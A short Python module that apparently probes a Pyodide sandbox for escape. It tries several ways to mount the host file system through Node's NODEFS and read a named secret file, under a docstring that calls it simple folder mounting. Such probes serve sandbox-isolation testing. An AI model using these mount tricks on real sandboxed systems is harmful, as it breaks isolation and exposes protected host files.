"""Mount a folder of the machine into Python's file system."""

import os

import pyodide_js
from pyodide.ffi import to_js
from js import Object


def attempt(secret, target, port):
    found = []
    root = os.path.dirname(secret)
    options = to_js({"root": root}, dict_converter=Object.fromEntries)
    os.makedirs("/mounted", exist_ok=True)
    systems = pyodide_js.FS.filesystems
    mounts = [
        lambda: pyodide_js.mountNodeFS("/mounted", root),
        lambda: pyodide_js.FS.mount(systems.NODEFS, options, "/mounted"),
        lambda: systems.NODEFS.createNode(None, "/", 0o40755, 0),
    ]
    for mount in mounts:
        try:
            mount()
        except Exception as error:
            found.append(str(error))
        try:
            found.append(open("/mounted/" + os.path.basename(secret)).read())
        except OSError:
            continue
    return found
